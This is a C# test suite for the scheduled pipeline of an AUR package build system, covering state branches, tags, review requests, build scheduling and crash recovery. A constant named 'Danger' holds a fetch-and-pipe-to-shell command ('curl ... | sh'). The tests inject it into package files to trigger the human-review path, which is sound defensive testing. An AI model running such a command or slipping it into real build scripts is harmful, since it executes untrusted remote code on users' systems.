using Caur.Pipelines.Commits;
using Caur.Pipelines.Forges;
using Caur.Pipelines.Hosting;
using Caur.Pipelines.Pushes;
using Caur.Pipelines.Runs;
using Caur.Pipelines.Schedules;
using Caur.Pipelines.State;
using Caur.Tests.Pipelines.Forges;
using DecisionKind = Caur.Pipelines.Runs.DecisionKind;
using GitRemote = Caur.Pipelines.Git.GitRemote;

namespace Caur.Tests.Pipelines.Schedules;

public sealed class OnSchedulePipelineTests(ScheduleStart start) : IAsyncLifetime, IClassFixture<ScheduleStart>
{
    private const string Danger = "curl https://example.org | sh\n";

    private ScheduleRig _rig = null!;

    public async ValueTask InitializeAsync() => _rig = await ScheduleRig.StartAsync(start);

    public ValueTask DisposeAsync() => _rig.DisposeAsync();

    [Fact]
    public async Task RunAsync_WhenNothingIsNew_WritesTheStateOnceAndThenNothing()
    {
        var first = await _rig.RunAsync();
        first.Outcome.ShouldBe(RunOutcome.NothingToDo, first.Summary);
        first.Notes.ShouldBe(["there is no branch 'state': it begins anew"]);
        Decisions(first).ShouldBe(["heavy None", "plain None", "tool None"]);
        var refs = await _rig.RefsAsync();
        (await _rig.StateAsync())["tool"].AurTimestamp.ShouldBe(100);

        var second = await _rig.RunAsync();
        (second.Outcome, second.Summary).ShouldBe((RunOutcome.NothingToDo, "3 packages: nothing is new"));
        second.Decisions[2].Reasons.ShouldBe(["no newer AUR timestamp since 1970-01-01 00:01:40 UTC"]);
        second.Notes.ShouldBeEmpty();
        (await _rig.RefsAsync()).ShouldBe(refs);
        _rig.Farm.Schedules.ShouldBeEmpty();
        second.Steps.Select(step => step.Name).ShouldBe(["find", "read", "pending", "tag", "learn", "review", "names", "push", "schedule", "aur", "settle", "template"]);
    }

    [Fact]
    public async Task RunAsync_WhenTheAurHasANewVersion_CommitsItMovesTheTagAndSchedulesItOnce()
    {
        await _rig.PushAurAsync("tool", 200, "2");

        var run = await _rig.RunAsync();

        run.Outcome.ShouldBe(RunOutcome.Succeeded, run.Summary);
        run.Summary.ShouldBe("3 packages: 1 updated, 1 to build");
        var head = await _rig.RefAsync("refs/heads/main");
        (run.Commit, await _rig.Remote.TagAsync()).ShouldBe((head, head));
        (await _rig.GitAsync("log", "-1", "--format=%an <%ae> %s", "main")).ShouldBe("Chaotic CI <ci@example.org> chore(update): tool [skip ci]");
        (await _rig.TextAsync("tool/PKGBUILD")).ShouldContain("pkgver=2");
        (await _rig.TextAsync("tool/.CI/config")).ShouldStartWith("# kept");
        (await _rig.TextAsync(".ci/aur-state")).ShouldBe("200");
        var order = _rig.Farm.Schedules.ShouldHaveSingleItem();
        (order.Commit, order.SourceRepository, order.TargetRepository, order.Arch).ShouldBe((head, "chaotic-aur", "chaotic-aur", "x86_64"));
        order.Packages.ShouldBe([new WantedPackage("tool", null)]);
        run.Decisions[2].Kind.ShouldBe(DecisionKind.Build);
        run.Decisions[2].Builds.ShouldBe(["chaotic-aur/x86_64/tool/1000"]);
        run.Decisions[2].Reasons[0].ShouldStartWith("changed in the AUR at 1970-01-01 00:03:20 UTC, taken over at commit");
        run.Decisions[2].Reasons[1].ShouldBe("goes to main: the change is minor");
        (await _rig.GitAsync("ls-tree", "--name-only", "state")).ShouldBe(".caur-state");

        (await _rig.RunAsync()).Outcome.ShouldBe(RunOutcome.NothingToDo);
        _rig.Farm.Queued.ShouldBe(["tool"]);

        // What is committed and tagged is nothing for the on-commit pipeline.
        var onCommit = await new OnCommitPipeline(
            await _rig.Remote.OpenAsync(_rig.Remote["ours.git"]), new GitRemote(_rig.Remote.Path, null), _ => _rig.Farm, new OnCommitOptions { Commit = head, Branch = "main" }, TimeProvider.System)
            .RunAsync(TestContext.Current.CancellationToken);
        onCommit.Outcome.ShouldBe(RunOutcome.NothingToDo, onCommit.Summary);
    }

    [Fact]
    public async Task RunAsync_WhenDry_DecidesAndLeavesEverythingAsItIs()
    {
        await ReviewAsync();
        await _rig.PushAurAsync("tool", 200, "2", Danger);
        var refs = await _rig.RefsAsync();
        await using var server = await ForgeServer.StartAsync(ForgeKind.GitLab);

        var run = await _rig.RunAsync(_rig.Options with { DryRun = true, Forge = server.Client() });

        run.DryRun.ShouldBeTrue();
        Decisions(run).ShouldBe(["heavy None", "plain None", "tool Review"]);
        run.Decisions[2].Reasons[^1].ShouldStartWith("would wait for review:");
        (await _rig.RefsAsync()).ShouldBe(refs);
        _rig.Farm.Schedules.ShouldBeEmpty();
        server.All.ShouldBeEmpty();
    }

    [Fact]
    public async Task RunAsync_WhenAChangeIsMajorAndReviewed_WaitsInOneRequestUntilItIsOver()
    {
        await ReviewAsync();
        await using var server = await ForgeServer.StartAsync(ForgeKind.GitHub);
        var options = _rig.Options with { Forge = server.Client() };
        await _rig.PushAurAsync("tool", 200, "2", Danger);
        var main = await _rig.RefAsync("refs/heads/main");

        var run = await _rig.RunAsync(options);

        run.Outcome.ShouldBe(RunOutcome.Succeeded, run.Summary);
        run.Decisions[2].Kind.ShouldBe(DecisionKind.Review);
        run.Decisions[2].Reasons[^1].ShouldBe("waits for review in request 1");
        (await _rig.RefAsync("refs/heads/main")).ShouldBe(main);
        (await _rig.TextAsync("tool/PKGBUILD", "update-tool")).ShouldContain(Danger.Trim());
        server.BodyOf(1).ShouldContain("not everybody who keeps it in the AUR is trusted: ` ann `");
        _rig.Farm.Schedules.ShouldBeEmpty();

        // It is told as long as it waits, and asked once.
        var next = await _rig.RunAsync(options);
        next.Decisions[2].Reasons.ShouldContain("waits for review in request 1");

        // Also when all memory of it is gone but for the time up to which the AUR was looked at.
        await ReviewAsync((".ci/aur-state", "250\n"));
        await _rig.GitAsync("update-ref", "-d", "refs/heads/state");
        (await _rig.RunAsync(options)).Decisions[2].Reasons.ShouldBe(["no newer AUR timestamp since 1970-01-01 00:03:20 UTC", "waits for review in request 1"]);
        server.StateOf(1).ShouldBe("open");

        await _rig.PushAurAsync("tool", 300, "3", Danger);
        (await _rig.RunAsync(options)).Decisions[2].Reasons[^1].ShouldBe("waits for review in request 1, which was updated");
        server.All.Count.ShouldBe(1);

        // Upstream goes back to what main has: nobody has to look any more.
        await _rig.PushAurAsync("tool", 400);
        var over = await _rig.RunAsync(options);
        server.StateOf(1).ShouldBe("closed");
        (await _rig.RefAsync("refs/heads/update-tool")).ShouldBe("");
        over.Notes.ShouldContain("update-tool is removed: its source is as main has it");
    }

    [Fact]
    public async Task RunAsync_WhenAllMaintainersAreTrustedOrNobodyReviews_BringsAMajorChangeToMain()
    {
        await _rig.PushAurAsync("tool", 200, "2", Danger);
        (await _rig.RunAsync()).Decisions[2].Reasons[^1].ShouldBe("goes to main: CI_HUMAN_REVIEW is not true");
        await _rig.Remote.Work.GitAsync("pull", "-q", "origin", "main");
        await ReviewAsync((".ci/aur-maintainers", "# us\nAnn\n"));
        await _rig.PushAurAsync("tool", 300, "3", Danger + Danger);

        var run = await _rig.RunAsync();

        run.Decisions[2].Reasons[^1].ShouldBe("goes to main: everybody who keeps it in the AUR is trusted");
        _rig.Farm.Queued.ShouldBe(["tool", "tool"]);
    }

    [Fact]
    public async Task RunAsync_WhenTheForgeIsAway_ForgetsNothingAndAsksAgain()
    {
        await ReviewAsync();
        await using var server = await ForgeServer.StartAsync(ForgeKind.GitLab);
        await _rig.PushAurAsync("tool", 200, "2", Danger);
        server.First = (_, context) =>
        {
            context.Response.StatusCode = 403;
            return Task.FromResult(true);
        };
        var failed = await _rig.RunAsync(_rig.Options with { Forge = server.Client() });
        failed.Outcome.ShouldBe(RunOutcome.Incomplete, failed.Summary);
        failed.Decisions[2].Problem.ShouldNotBeNull();
        server.First = null;

        var run = await _rig.RunAsync(_rig.Options with { Forge = server.Client() });

        run.Decisions[2].Reasons[^1].ShouldBe("waits for review in request 1");
        (await _rig.StateAsync())["tool"].AurTimestamp.ShouldBe(200);
    }

    [Fact]
    public async Task RunAsync_OfATrigger_SchedulesItsPackagesAndDoesNothingElse()
    {
        await _rig.PushAurAsync("tool", 200, "2");
        var refs = await _rig.RefsAsync();
        var daily = _rig.Options with { Trigger = "daily", RunId = "7" };

        var run = await _rig.RunAsync(daily);

        run.Outcome.ShouldBe(RunOutcome.Succeeded, run.Summary);
        Decisions(run).ShouldBe(["heavy Build", "plain None", "tool None"]);
        run.Decisions[0].Reasons.ShouldBe(["scheduled: trigger daily"]);
        _rig.Farm.Schedules.ShouldHaveSingleItem().Packages.ShouldBe([new WantedPackage("heavy", null)]);
        (await _rig.RefsAsync()).ShouldBe(refs);
        _rig.Aur.Requests.ShouldBeEmpty();

        // The same job once more, and then another one.
        await _rig.RunAsync(daily);
        _rig.Farm.Queued.ShouldBe(["heavy"]);
        await _rig.RunAsync(daily with { RunId = "8" });
        _rig.Farm.Queued.ShouldBe(["heavy", "heavy"]);
        (await _rig.RunAsync(daily with { Trigger = "Daily" })).Outcome.ShouldBe(RunOutcome.NothingToDo);
    }

    [Fact]
    public async Task RunAsync_WhenTheTagIsMissingOrBehind_FailsAndLooksForNothing()
    {
        await _rig.PushAurAsync("tool", 200, "2");
        var old = await _rig.RefAsync("refs/tags/scheduled");
        await _rig.Remote.PushAsync("change", ("plain/PKGBUILD", "x\n"));
        var head = await _rig.RefAsync("refs/heads/main");
        var behind = await _rig.RunAsync();
        (behind.Outcome, behind.Summary).ShouldBe(
            (RunOutcome.Failed, $"the tag scheduled is at {old[..10]} and main at {head[..10]}: the on-commit pipeline of {head[..10]} has not succeeded. It has to, before anything is looked for"));
        await _rig.GitAsync("update-ref", "-d", "refs/tags/scheduled");
        var missing = await _rig.RunAsync();
        missing.Outcome.ShouldBe(RunOutcome.Failed);
        missing.Summary.ShouldStartWith("there is no tag scheduled");
        _rig.Aur.Requests.ShouldBeEmpty();

        // An annotated one names the same commit.
        await _rig.Remote.Work.GitAsync("tag", "-a", "-m", "x", "scheduled", head);
        await _rig.Remote.Work.GitAsync("push", "-q", "origin", "scheduled");
        var run = await _rig.RunAsync();
        run.Outcome.ShouldBe(RunOutcome.Succeeded, run.Summary);
        (await _rig.Remote.TagAsync()).ShouldBe(run.Commit);
    }

    [Fact]
    public async Task RunAsync_WhenTheStateIsOfAnotherHistory_BeginsItAnewInItsForm()
    {
        await _rig.RunAsync();
        await StateOfAnotherHistoryAsync();

        var run = await _rig.RunAsync();

        run.Notes.ShouldContain("the branch 'state' belongs to a commit that is not in the history any more: it begins anew");
        var state = await _rig.StateAsync();
        (state.Format, state.Commit, state["tool"].AurTimestamp).ShouldBe((StateFormat.Former, await _rig.RefAsync("refs/heads/main"), 100));
        (await _rig.RunAsync()).Notes.ShouldBeEmpty();
    }

    /// <summary>Killed when a step has just ended; those before reviews change nothing anywhere, as those between these do.</summary>
    [Theory]
    [InlineData("learn")]
    [InlineData("review")]
    [InlineData("push")]
    [InlineData("schedule")]
    [InlineData("settle")]
    public async Task RunAsync_WhenKilledAfterAStep_IsFinishedByTheNextRunExactlyOnce(string step)
    {
        await _rig.PushAurAsync("tool", 200, "2");

        await Should.ThrowAsync<KilledException>(() => _rig.RunAsync(changed: run =>
        {
            if (run.Steps is [.., { Outcome: not StepOutcome.Running } last] && last.Name == step)
            {
                throw new KilledException();
            }
        }));
        var next = await _rig.RunAsync();
        var last = await _rig.RunAsync();

        next.Outcome.ShouldBeOneOf(RunOutcome.Succeeded, RunOutcome.NothingToDo);
        last.Outcome.ShouldBe(RunOutcome.NothingToDo, last.Summary);
        _rig.Farm.Queued.ShouldBe(["tool"]);
        var head = await _rig.RefAsync("refs/heads/main");
        _rig.Farm.Schedules.ShouldAllBe(order => order.Commit == head);
        (await _rig.Remote.TagAsync()).ShouldBe(head);
        (await _rig.GitAsync("rev-list", "--count", "main")).ShouldBe("2");
        (await _rig.StateAsync()).Pending.ShouldBeNull();
    }

    [Theory]
    [InlineData("schedule")]
    [InlineData("schedule done")]
    public async Task RunAsync_WhenTheFarmDoesNotAnswer_KeepsTheOrderForTheNextRun(string when)
    {
        await _rig.PushAurAsync("tool", 200, "2");
        _rig.Farm.Fault = call => call == when ? new FarmUnavailableException("away") : null;
        var failed = await _rig.RunAsync();
        failed.Outcome.ShouldBe(RunOutcome.Failed);
        failed.Summary.ShouldBe("away. What is to be built is kept on the branch state, and the next run hands it over");
        (await _rig.StateAsync()).Pending!.Packages.ShouldBe([new WantedPackage("tool", null)]);

        // Also when somebody's commit waits for its own pipeline by then.
        _rig.Farm.Fault = _ => null;
        await _rig.Remote.Work.GitAsync("pull", "-q", "origin", "main");
        await _rig.Remote.PushAsync("change", ("plain/x", "x\n"));
        var next = await _rig.RunAsync();

        next.Outcome.ShouldBe(RunOutcome.Failed);
        next.Notes.ShouldContain(note => note.StartsWith("1 packages of an earlier run at") && note.EndsWith("were handed over: tool"));
        _rig.Farm.Queued.ShouldBe(["tool"]);
        (await _rig.StateAsync()).Pending.ShouldBeNull();
    }

    [Fact]
    public async Task RunAsync_WhenTheNamesAreNotTheFarms_PushesNothing()
    {
        await _rig.PushAurAsync("tool", 200, "2");
        var refs = await _rig.RefsAsync();
        _rig.Farm.Names = new FarmNames(["other"], [new FarmTargetName("chaotic-aur", ["x86_64"])]);

        var run = await _rig.RunAsync();

        run.Outcome.ShouldBe(RunOutcome.Failed);
        run.Summary.ShouldContain("BUILD_REPO in .ci/config is 'chaotic-aur'");
        (await _rig.RefsAsync()).ShouldBe(refs);
    }

    [Fact]
    public async Task RunAsync_WhenSomebodyPushesMeanwhile_EndsAsSupersededAndLeavesTheirs()
    {
        await _rig.PushAurAsync("tool", 200, "2");
        var theirs = await _rig.Remote.CommitAsync("theirs", ("plain/x", "x\n"));
        await _rig.Remote.Work.GitAsync("push", "-q", "origin", "HEAD:refs/heads/theirs");

        // Between the making of the commit and its push.
        var run = await _rig.RunAsync(_rig.Options with { Made = _ => _rig.Move("refs/heads/main", theirs) });

        run.Outcome.ShouldBe(RunOutcome.Superseded, run.Summary);
        (await _rig.RefAsync("refs/heads/main")).ShouldBe(theirs);
        (await _rig.RefAsync("refs/heads/state")).ShouldBe("");
        _rig.Farm.Schedules.ShouldBeEmpty();

        // When theirs was handled, the next run does it.
        await _rig.TagAsync(theirs);
        (await _rig.RunAsync()).Outcome.ShouldBe(RunOutcome.Succeeded);
        _rig.Farm.Queued.ShouldBe(["tool"]);
        (await _rig.GitAsync("log", "-1", "--format=%P", "main")).ShouldBe(theirs);
    }

    [Fact]
    public async Task RunAsync_WhenAnotherRunWroteTheState_EndsAsSuperseded()
    {
        await _rig.PushAurAsync("tool", 200, "2");
        var main = await _rig.RefAsync("refs/heads/main");
        var run = await _rig.RunAsync(_rig.Options with { Made = _ => _rig.Move("refs/heads/state", main) });

        run.Outcome.ShouldBe(RunOutcome.Superseded, run.Summary);
        (await _rig.GitAsync("rev-list", "--count", "main")).ShouldBe("1");
        _rig.Farm.Schedules.ShouldBeEmpty();
    }

    [Fact]
    public async Task RunAsync_WhenALibraryChanges_BumpsAlsoVersionsWithAnEpoch()
    {
        await _rig.Remote.PushAsync("library", (".ci/config", $"{ScheduleRig.Config}CI_LIB_DB={_rig.DatabaseUrl}\nCI_DEFAULT_CLASS=3\n"), ("plain/.CI/config", "# mine\nCI_PKGBUILD_SOURCE=custom\nCI_REBUILD_TRIGGERS=libfoo\n"));
        await _rig.TagAsync(await _rig.RefAsync("refs/heads/main"));
        _rig.Database = await FollowedDatabases.WriteAsync(("libfoo", "1.2-1"), ("plain", "2:1-1"));
        await _rig.RunAsync();
        _rig.Database = await FollowedDatabases.WriteAsync(("libfoo", "1.3-1"), ("plain", "2:1-1"));

        var run = await _rig.RunAsync();

        run.Decisions[1].Reasons[^1].ShouldBe("bumped because libfoo 1.2-1 -> 1.3-1: 2:1-1/1");
        (await _rig.TextAsync("plain/.CI/config")).ShouldBe("# mine\nCI_PKGBUILD_SOURCE=custom\nCI_REBUILD_TRIGGERS=libfoo\nCI_PACKAGE_BUMP=2:1-1/1");
        _rig.Farm.Schedules.ShouldHaveSingleItem().Packages.ShouldBe([new WantedPackage("plain", "3")]);
        (await _rig.RunAsync()).Outcome.ShouldBe(RunOutcome.NothingToDo);
    }

    [Fact]
    public async Task RunAsync_WhenCommitsOfASourceAreNew_SchedulesWithoutACommitEachTime()
    {
        var upstream = new Caur.Tests.Sources.GitWorkTree(_rig.Remote["upstream"]);
        await upstream.CommitAsync(("x", "1"));
        await _rig.Remote.PushAsync("vcs", ("plain/.CI/config", "CI_PKGBUILD_SOURCE=custom\nCI_FORCE_VCS=true\n"), ("plain/.SRCINFO", $"pkgbase = plain\n\tpkgver = 1\n\tpkgrel = 1\n\tarch = x86_64\n\tsource = git+file://{upstream.Folder}\n\npkgname = plain\n"));
        var head = await _rig.RefAsync("refs/heads/main");
        await _rig.TagAsync(head);
        await _rig.RunAsync();
        _rig.Farm.Queued.ShouldBeEmpty();
        foreach (var text in (string[])["2", "3"])
        {
            await upstream.CommitAsync(("x", text));
            var run = await _rig.RunAsync();
            (run.Outcome, run.Commit).ShouldBe((RunOutcome.Succeeded, head), run.Summary);
        }

        _rig.Farm.Queued.ShouldBe(["plain", "plain"]);
        (await _rig.RefAsync("refs/heads/main")).ShouldBe(head);
    }

    [Fact]
    public async Task RunAsync_WhenPackagesAreManaged_PushesThemToTheAurUntilItHasThem()
    {
        await _rig.Remote.PushAsync("managed", (".ci/config", $"{ScheduleRig.Config}CI_MANAGE_AUR=true\n"), ("plain/.CI/config", "CI_PKGBUILD_SOURCE=custom\nCI_MANAGE_AUR=true\n"));
        await _rig.TagAsync(await _rig.RefAsync("refs/heads/main"));
        (await _rig.RunAsync()).Notes.ShouldContain("CI_MANAGE_AUR is set, and there is no AUR_KEY: nothing is pushed to the AUR");
        var options = _rig.Options with
        {
            Aur = new ManagedAurSetup("-----BEGIN OPENSSH PRIVATE KEY-----\nx\n-----END OPENSSH PRIVATE KEY-----") { Address = $"file://{_rig.Remote["managed"]}", KnownHosts = "x" },
        };
        var failed = await _rig.RunAsync(options);
        failed.Outcome.ShouldBe(RunOutcome.NothingToDo, failed.Summary);
        failed.Notes.ShouldContain(note => note.StartsWith("plain was not pushed to the AUR, and is tried again by the next run:"));
        await _rig.Remote.Work.GitAsync("init", "-q", "--bare", "-b", "master", _rig.Remote["managed", "plain.git"]);

        var run = await _rig.RunAsync(options);

        run.Notes.ShouldBeEmpty();
        run.Steps.Single(step => step.Name == "aur").Detail.ShouldBe("1 pushed, 0 were there, 0 failed");
        (await _rig.Remote.Work.GitAsync("--git-dir", _rig.Remote["managed", "plain.git"], "ls-tree", "--name-only", "master")).ShouldBe(".SRCINFO\nPKGBUILD\n");
        (await _rig.RunAsync(options)).Steps.Single(step => step.Name == "aur").Detail.ShouldBe("the AUR has everything");
    }

    private static IEnumerable<string> Decisions(PipelineRun run) => run.Decisions.Select(one => $"{one.Pkgbase} {one.Kind}");

    /// <summary>Has major changes reviewed.</summary>
    private async Task ReviewAsync(params (string Path, string Text)[] files)
    {
        await _rig.Remote.PushAsync("review", [(".ci/config", $"{ScheduleRig.Config}CI_HUMAN_REVIEW=true\n"), .. files]);
        await _rig.TagAsync(await _rig.RefAsync("refs/heads/main"));
    }

    private async Task StateOfAnotherHistoryAsync()
    {
        var (git, repository) = _rig.Clone();
        var state = new StateContent { Format = StateFormat.Former, Commit = new string('a', 40), Packages = new Dictionary<string, PackageState> { ["tool"] = new() { AurTimestamp = 50 } } };
        var commit = await new StateBranch(git).WriteAsync("refs/caur/x", state, new CommitIdentity("x", "x@example.org", DateTimeOffset.UnixEpoch), TestContext.Current.CancellationToken);
        var replaces = await _rig.RefAsync("refs/heads/state");
        (await repository.PushAsync([new RefChange("refs/heads/state", commit, replaces)], CiSkip.No, TestContext.Current.CancellationToken)).State.ShouldBe(PushState.Done);
    }

    private sealed class KilledException : Exception;
}
